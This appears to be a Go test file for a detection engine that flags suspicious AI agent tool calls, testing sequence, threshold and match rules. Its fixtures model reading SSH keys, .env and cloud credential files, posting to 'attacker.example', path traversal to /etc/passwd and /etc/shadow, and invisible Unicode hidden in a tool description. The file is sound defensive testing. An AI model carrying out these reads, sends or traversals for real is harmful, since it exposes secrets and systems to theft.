package detect

import (
	"fmt"
	"slices"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	"google.golang.org/protobuf/proto"

	eventv1 "github.com/mcpaudit/mcpaudit/proto/mcpaudit/event/v1"
)

const seqRule = `
id: read-then-send
title: Read then send
severity: critical
tags: [safe.t1502]
kind: sequence
maxspan: 5m
steps:
  - name: read
    condition: method == "tools/call" && any(pathArgs(arguments), sensitivePath(#))
  - name: send
    condition: method == "tools/call" && egressTool(tool_name, arguments)
until: method == "tools/call" && tool_name == "reset"
`

// run feeds evs to a fresh engine and returns all alerts.
func run(t *testing.T, rules []*Rule, evs ...*eventv1.Event) ([]*eventv1.Alert, *Engine) {
	t.Helper()
	e := NewEngine(rules, nil, WithClock(fixedClock))
	var out []*eventv1.Alert
	for _, ev := range evs {
		out = append(out, e.Process(ev)...)
	}
	return out, e
}

func TestSequence(t *testing.T) {
	rules := mustParse(t, seqRule)
	read := func(id, s string, off time.Duration) *eventv1.Event {
		return call(id, s, off, "read_text_file", `{"path":"/home/u/.ssh/id_rsa"}`)
	}
	send := func(id, s string, off time.Duration) *eventv1.Event {
		return call(id, s, off, "send_email", `{"to":"x@example.com","body":"..."}`)
	}
	other := func(id, s string, off time.Duration) *eventv1.Event {
		return call(id, s, off, "list_directory", `{"path":"/tmp"}`)
	}
	tests := []struct {
		name    string
		evs     []*eventv1.Event
		wantIDs [][]string
	}{
		{"read then send", []*eventv1.Event{read("e1", "s1", 0), other("e2", "s1", time.Second), send("e3", "s1", time.Minute)}, [][]string{{"e1", "e3"}}},
		{"send before read", []*eventv1.Event{send("e1", "s1", 0), read("e2", "s1", time.Second)}, nil},
		{"other session", []*eventv1.Event{read("e1", "s1", 0), send("e2", "s2", time.Second)}, nil},
		{"expired past maxspan", []*eventv1.Event{read("e1", "s1", 0), send("e2", "s1", 5*time.Minute+time.Millisecond)}, nil},
		{"exactly maxspan", []*eventv1.Event{read("e1", "s1", 0), send("e2", "s1", 5*time.Minute)}, [][]string{{"e1", "e2"}}},
		{"later read restarts after expiry", []*eventv1.Event{read("e1", "s1", 0), read("e2", "s1", 4*time.Minute), send("e3", "s1", 6*time.Minute)}, [][]string{{"e2", "e3"}}},
		{"until resets", []*eventv1.Event{read("e1", "s1", 0), call("e2", "s1", time.Second, "reset", `{}`), send("e3", "s1", 2*time.Second)}, nil},
		{"suppressed second completion", []*eventv1.Event{read("e1", "s1", 0), send("e2", "s1", time.Second), read("e3", "s1", 2*time.Second), send("e4", "s1", 3*time.Second)}, [][]string{{"e1", "e2"}}},
		{"after suppression window", []*eventv1.Event{read("e1", "s1", 0), send("e2", "s1", time.Second), read("e3", "s1", 6*time.Minute), send("e4", "s1", 6*time.Minute+time.Second)}, [][]string{{"e1", "e2"}, {"e3", "e4"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			alerts, _ := run(t, rules, tt.evs...)
			var got [][]string
			for _, a := range alerts {
				got = append(got, a.GetEventIds())
			}
			if !slices.EqualFunc(got, tt.wantIDs, slices.Equal[[]string]) {
				t.Errorf("alert event ids = %v, want %v", got, tt.wantIDs)
			}
		})
	}
}

func TestSequenceAlertFields(t *testing.T) {
	rules := mustParse(t, seqRule)
	alerts, e := run(t, rules,
		call("e1", "s1", 0, "read_text_file", `{"path":"/srv/.env"}`),
		call("e2", "s1", 90*time.Second, "http_post", `{"url":"https://attacker.example"}`))
	if len(alerts) != 1 {
		t.Fatalf("got %d alerts, want 1", len(alerts))
	}
	a := alerts[0]
	want := &eventv1.Alert{
		AlertId: AlertID("read-then-send", "s1", "e1"), TenantId: "acme", RuleId: "read-then-send",
		Title: "Read then send", Severity: eventv1.Severity_SEVERITY_CRITICAL, Tags: []string{"safe.t1502"},
		EventIds: []string{"e1", "e2"}, SessionId: "s1", GroupKey: "s1", RuleKind: "sequence",
		ServerName: "secure-filesystem-server", ToolName: "http_post",
	}
	if a.GetTime().AsTime() != fixedClock() || a.GetFirstEventTime().AsTime() != t0 || a.GetLastEventTime().AsTime() != t0.Add(90*time.Second) {
		t.Errorf("times: alert %v first %v last %v", a.GetTime().AsTime(), a.GetFirstEventTime().AsTime(), a.GetLastEventTime().AsTime())
	}
	a.Time, a.FirstEventTime, a.LastEventTime = nil, nil, nil
	if !proto.Equal(a, want) {
		t.Errorf("alert = %v\nwant %v", a, want)
	}
	if st := e.Stats()["read-then-send"]; st.Alerts != 1 || st.Groups != 1 {
		t.Errorf("stats %+v", st)
	}
}

func TestThreshold(t *testing.T) {
	const rule = `
id: burst
title: Burst
severity: medium
kind: threshold
window: 10s
count: 5
condition: method == "tools/call"
`
	const distinctRule = `
id: many-tools
title: Many distinct tools
severity: low
kind: threshold
by: tenant_id
window: 1m
count: 3
distinct: tool_name
condition: method == "tools/call"
`
	calls := func(session string, n int, step time.Duration, tool func(int) string) []*eventv1.Event {
		var evs []*eventv1.Event
		for i := range n {
			evs = append(evs, call(fmt.Sprintf("%s-%d", session, i), session, time.Duration(i)*step, tool(i), `{}`))
		}
		return evs
	}
	same := func(int) string { return "echo" }
	tests := []struct {
		name      string
		rule      string
		evs       []*eventv1.Event
		wantIDs   [][]string
		wantGroup string
	}{
		{"reaches count in window", rule, calls("s1", 5, time.Second, same), [][]string{{"s1-0", "s1-1", "s1-2", "s1-3", "s1-4"}}, "s1"},
		{"below count", rule, calls("s1", 4, time.Second, same), nil, ""},
		{"spread beyond window", rule, calls("s1", 10, 3*time.Second, same), nil, ""},
		{"suppressed after alert", rule, calls("s1", 12, 100*time.Millisecond, same), [][]string{{"s1-0", "s1-1", "s1-2", "s1-3", "s1-4"}}, "s1"},
		{"sessions apart", rule, append(calls("s1", 3, time.Second, same), calls("s2", 3, time.Second, same)...), nil, ""},
		{"distinct not reached", distinctRule, calls("s1", 10, time.Second, same), nil, ""},
		{"distinct reached", distinctRule, calls("s1", 4, time.Second, func(i int) string { return []string{"a", "a", "b", "c"}[i] }), [][]string{{"s1-1", "s1-2", "s1-3"}}, "acme"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			alerts, _ := run(t, mustParse(t, tt.rule), tt.evs...)
			var got [][]string
			for _, a := range alerts {
				got = append(got, a.GetEventIds())
				if a.GetGroupKey() != tt.wantGroup {
					t.Errorf("group key %q, want %q", a.GetGroupKey(), tt.wantGroup)
				}
			}
			if !slices.EqualFunc(got, tt.wantIDs, slices.Equal[[]string]) {
				t.Errorf("alert event ids = %v, want %v", got, tt.wantIDs)
			}
		})
	}
}

func TestMatchSuppression(t *testing.T) {
	const tmpl = `
id: trav
title: Traversal
severity: high
kind: match
condition: method == "tools/call" && any(pathArgs(arguments), pathTraversal(#))
%s
`
	evs := []*eventv1.Event{
		call("e1", "s1", 0, "read_file", `{"path":"../../etc/passwd"}`),
		call("e2", "s1", time.Minute, "read_file", `{"path":"../../etc/shadow"}`),
		call("e3", "s2", time.Minute, "read_file", `{"path":"..%2f..%2fetc"}`),
		call("e4", "s1", 11*time.Minute, "read_file", `{"path":"../x"}`),
		call("e5", "s1", 12*time.Minute, "read_file", `{"path":"/tmp/ok"}`),
	}
	tests := []struct {
		name     string
		suppress string
		want     []string // first event id of each alert
	}{
		{"default every match", "", []string{"e1", "e2", "e3", "e4"}},
		{"suppress 10m per session", "suppress: 10m", []string{"e1", "e3", "e4"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			alerts, e := run(t, mustParse(t, fmt.Sprintf(tmpl, tt.suppress)), evs...)
			var got []string
			for _, a := range alerts {
				got = append(got, a.GetEventIds()[0])
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("alerts for %v, want %v", got, tt.want)
			}
			if sup := e.Stats()["trav"].Suppressed; sup != uint64(4-len(tt.want)) {
				t.Errorf("suppressed %d, want %d", sup, 4-len(tt.want))
			}
		})
	}
}

func TestAlertIDDeterministic(t *testing.T) {
	rules, err := LoadBuiltin()
	if err != nil {
		t.Fatal(err)
	}
	stream := mixedStream(t, 2000)
	ids := func() []string {
		e := NewEngine(rules, nil) // real clock: alert time differs, ids must not
		var out []string
		for _, ev := range stream {
			for _, a := range e.Process(ev) {
				out = append(out, a.GetAlertId())
			}
		}
		return out
	}
	first, second := ids(), ids()
	if len(first) == 0 {
		t.Fatal("the mixed stream raised no alerts")
	}
	if !slices.Equal(first, second) {
		t.Errorf("alert ids differ between runs:\n%v\n%v", first, second)
	}
	if got := AlertID("r", "k", "e"); got != AlertID("r", "k", "e") || len(got) != 36 || got[8] != '-' {
		t.Errorf("AlertID format %q", got)
	}
	if AlertID("r", "k", "e") == AlertID("r", "ke", "") {
		t.Error("AlertID does not separate its fields")
	}
}

func TestGroupCapEvicts(t *testing.T) {
	rules := mustParse(t, seqRule)
	reg := prometheus.NewRegistry()
	e := NewEngine(rules, nil, WithMaxGroups(3), WithRegisterer(reg))
	for i := range 10 {
		e.Process(call(evID(i), fmt.Sprint("s", i), time.Duration(i)*time.Second, "read_text_file", `{"path":"/home/u/.aws/credentials"}`))
	}
	st := e.Stats()["read-then-send"]
	if st.Groups != 3 || st.Evicted != 7 {
		t.Errorf("groups %d evicted %d, want 3 and 7", st.Groups, st.Evicted)
	}
	if got := testutil.ToFloat64(e.evicted.WithLabelValues("read-then-send")); got != 7 {
		t.Errorf("mcpaudit_detect_groups_evicted_total = %v, want 7", got)
	}
	// s9 survived, s0 was evicted.
	if a := e.Process(call("x9", "s9", 20*time.Second, "send_email", `{}`)); len(a) != 1 {
		t.Errorf("s9 send raised %d alerts, want 1", len(a))
	}
	if a := e.Process(call("x0", "s0", 21*time.Second, "send_email", `{}`)); len(a) != 0 {
		t.Errorf("evicted s0 send raised %d alerts, want 0", len(a))
	}
}

func TestIdleGroupsSwept(t *testing.T) {
	e := NewEngine(mustParse(t, seqRule), nil)
	for i := range 50 {
		e.Process(call(evID(i), fmt.Sprint("s", i), 0, "read_text_file", `{"path":"/home/u/.netrc"}`))
	}
	// Much later traffic sweeps the expired groups, a bounded number per event.
	for i := range 10 {
		e.Process(call(evID(100+i), "late", time.Hour+time.Duration(i)*time.Second, "list_directory", `{}`))
	}
	if g := e.Stats()["read-then-send"].Groups; g != 0 {
		t.Errorf("%d groups live after an hour, want 0", g)
	}
}

func TestEvalErrorsCounted(t *testing.T) {
	rules := mustParse(t, `
id: divides
title: Divides
severity: low
kind: match
condition: event.ToolCall.Name == "x"
`)
	reg := prometheus.NewRegistry()
	e := NewEngine(rules, nil, WithRegisterer(reg))
	ev := base("e1", "s1", 0) // no tool_call: nil dereference at run time
	ev.Method = "ping"
	if a := e.Process(ev); len(a) != 0 {
		t.Errorf("got %d alerts", len(a))
	}
	if got := e.Stats()["divides"].EvalErrors; got != 1 {
		t.Errorf("eval errors %d, want 1", got)
	}
	if got := testutil.ToFloat64(e.evalErrors.WithLabelValues("divides")); got != 1 {
		t.Errorf("mcpaudit_detect_rule_eval_errors_total = %v, want 1", got)
	}
}

func TestEnvFields(t *testing.T) {
	ev := call("e1", "s1", 0, "read_file", `{"path":"/a","n":[1,"x"]}`)
	ev.Error = &eventv1.JsonRpcError{Code: -32602, Message: "bad"}
	e := NewEnv(ev)
	if e.Kind != "request" || e.Direction != "client_to_server" || e.Arguments["path"] != "/a" || e.ErrorCode != -32602 || e.Time != t0 {
		t.Errorf("env %+v", e)
	}
	if NewEnv(call("e2", "s1", 0, "x", `[1,2]`)).Arguments != nil {
		t.Error("non-object arguments decoded")
	}
	tl := NewEnv(toolsList("e3", "s1", 0, &eventv1.ToolDefinition{Name: "t", Description: "d",
		InputSchemaJson: `{"properties":{"p":{"description":"hid\u200bden"}}}`}))
	if len(tl.Tools) != 1 || !InvisibleUnicode(tl.Tools[0].Text) || !tl.Tools[0].Annotations.OpenWorldHint || !tl.Tools[0].Annotations.DestructiveHint {
		t.Errorf("tools %+v", tl.Tools)
	}
}
